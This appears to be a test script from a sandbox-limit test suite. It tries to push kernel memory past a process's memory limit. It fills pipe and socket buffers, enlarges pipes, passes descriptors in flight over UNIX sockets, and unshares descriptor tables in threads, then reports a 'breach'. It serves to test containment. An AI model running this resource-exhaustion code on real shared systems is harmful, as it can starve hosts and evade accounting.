"""Fills buffers of the kernel that no limit on a program's memory counts: pipes, sockets, message queues.

Nor may threads with descriptors of their own, or descriptors that are in no process but on their way.
Limits: memory_mb=64, cpu_s=2, wall_s=4
Variants: pipes, sockets, in_flight, in_flight_by_rights, dgram, unshared
"""

import array
import fcntl
import socket
import threading

from attack import BURST, VARIANT, breach, os, say, syscall

taken, kept = 0, []
block = bytes(BURST)


def fill(send):
    filled = 0
    try:
        while filled < 64 * BURST:
            filled += send(block[:65536])
    except OSError:
        pass
    return filled


def pair(kind):
    one, other = socket.socketpair(socket.AF_UNIX, kind)
    one.setblocking(False)
    for option in (socket.SO_SNDBUF, 32):
        try:
            one.setsockopt(socket.SOL_SOCKET, option, 256 * BURST)
        except OSError:
            continue
    return one, other


def sockets():
    kept, taken = [], 0
    try:
        while True:
            kept.append(pair(socket.SOCK_STREAM))
            taken += fill(kept[-1][0].send) + fill(kept[-1][1].send)
    except OSError:
        return kept, taken


def unshared():
    if syscall("close_range", 1_000_000, 1_000_001, 2) == 0:
        kept.append(sockets())


if VARIANT == "unshared":
    threading.stack_size(1 << 18)
    threads = [threading.Thread(target=unshared) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    taken = sum(filled for _, filled in kept)
try:
    while taken < 256 * BURST:
        if VARIANT == "pipes":
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            for size in (BURST, BURST // 2):
                try:
                    fcntl.fcntl(writer, 1031, size)
                    break
                except OSError:
                    continue
            kept.append(reader)
            taken += fill(lambda data, writer=writer: os.write(writer, data))
        else:
            one, other = pair(socket.SOCK_DGRAM if VARIANT == "dgram" else socket.SOCK_STREAM)
            taken += fill(one.send)
            kept.append((one, other))
            if VARIANT.startswith("in_flight") and len(kept) > 8:
                # Sockets that lie in another's queue are open, and count as no descriptor of ours.
                kind = socket.SOCK_DGRAM if VARIANT == "in_flight" else socket.SOCK_STREAM
                carrier = socket.socketpair(socket.AF_UNIX, kind)
                numbers = [s.fileno() for both in kept for s in both]
                carrier[0].sendmsg([b"x"], [(socket.SOL_SOCKET, 1, array.array("i", numbers))])
                kept = [carrier]
except OSError as refusal:
    say(f"refused after {taken >> 20} MiB: {refusal}")
if taken > 128 * BURST:
    breach(f"{taken >> 20} MiB in the kernel's buffers")
